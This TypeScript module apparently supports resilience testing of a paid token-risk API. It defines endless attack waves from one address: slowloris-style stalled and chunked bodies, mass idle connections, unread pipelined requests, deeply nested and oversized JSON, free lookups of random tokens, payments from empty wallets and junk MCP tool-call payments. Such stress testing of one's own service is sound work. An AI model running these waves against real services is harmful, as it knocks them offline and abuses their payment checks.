/** What one address can do to the service without paying. Each runs for ever; whoever starts it ends it. */
import { Effect } from "effect"
import { randomBytes } from "node:crypto"
import type { Scope } from "effect"
import { generatePrivateKey, privateKeyToAccount } from "viem/accounts"
import { ask, ATTACKER, openMany } from "../../test/support/hostile/clients.ts"
import { baseBuyer } from "../sandbox/buyer.ts"
import { pingToolCall } from "../sandbox/tool-call.ts"

const PING = "/api/token-risk/v1/ping"
const DEEP = "/api/token-risk/v1/deep"
const TOKEN = "0x4200000000000000000000000000000000000006"

const head = (headers: ReadonlyArray<string>): string =>
  [`POST ${PING} HTTP/1.1`, "host: x", "content-type: application/json", ...headers, "", ""].join("\r\n")

const asking = (port: number, path: string, body: string, headers: Readonly<Record<string, string>> = {}) =>
  ask(port, { path, body, headers, from: ATTACKER })

const together = (count: number, one: () => Effect.Effect<unknown>) =>
  Effect.all(Array.from({ length: count }, one), { concurrency: "unbounded", discard: true })

/** Opens connections, says something on each, holds them a while and hangs up. */
const connections = (port: number, count: number, hold: `${number} millis`, text: string) =>
  Effect.scoped(
    Effect.gen(function* () {
      const sockets = yield* openMany(count, port, ATTACKER)
      for (const socket of sockets) socket?.pause().write(text)
      yield* Effect.sleep(hold)
    })
  )

const unknownToken = (): string =>
  JSON.stringify({ chain: "base", address: `0x${randomBytes(20).toString("hex")}` })

/** A payment well made, by a wallet that has nothing. */
const emptyHanded = (port: number) =>
  Effect.gen(function* () {
    const { text } = yield* asking(port, PING, JSON.stringify({ chain: "base", address: TOKEN }))
    const { client } = baseBuyer(privateKeyToAccount(generatePrivateKey()))
    const payload = yield* Effect.promise(() => client.createPaymentPayload(JSON.parse(text)))
    const payment = Buffer.from(JSON.stringify(payload)).toString("base64")
    return yield* asking(port, PING, JSON.stringify({ chain: "base", address: TOKEN }), {
      "payment-signature": payment
    })
  }).pipe(Effect.catchAllDefect(() => Effect.void))

const CHUNK = `${head(["transfer-encoding: chunked"])}11170\r\n${"x".repeat(70_000)}`
const DEEP_JSON = `${"[".repeat(5_000)}${"]".repeat(5_000)}`

const WAVES: Readonly<Record<string, (port: number) => Effect.Effect<void, never, Scope.Scope>>> = {
  "512 chunked bodies broken off": (port) => connections(port, 512, "100 millis", CHUNK),
  "520 bodies that never end": (port) =>
    connections(port, 520, "3000 millis", `${head(["content-length: 500"])}{`),
  "4,096 idle connections": (port) => connections(port, 4_096, "2000 millis", ""),
  "64,000 pipelined requests nobody reads": (port) =>
    connections(port, 128, "1000 millis", `GET ${PING} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(500)),
  "free calls for tokens that do not exist": (port) =>
    together(64, () => asking(port, DEEP, unknownToken(), { "x-client-id": randomBytes(8).toString("hex") })),
  "payments of empty wallets": (port) => together(32, () => emptyHanded(port)),
  "JSON nested 5,000 deep, and bodies too large": (port) =>
    together(64, () =>
      Effect.zipRight(asking(port, PING, DEEP_JSON), asking(port, PING, `"${"x".repeat(200_000)}"`))
    ),
  "tool calls that pay with rubbish": (port) =>
    together(64, () =>
      asking(
        port,
        "/api/token-risk/mcp",
        pingToolCall(TOKEN, { "x402/payment": { x402Version: 2, payload: {} } }),
        { accept: "application/json, text/event-stream" }
      )
    )
}

export const ATTACKS: ReadonlyArray<string> = Object.keys(WAVES)

/** One attack, wave after wave. */
export const attack = (name: string, port: number): Effect.Effect<never> => {
  const wave = WAVES[name]
  if (wave === undefined) throw new Error(`no attack is called ${JSON.stringify(name)}`)
  return Effect.forever(Effect.scoped(wave(port)))
}
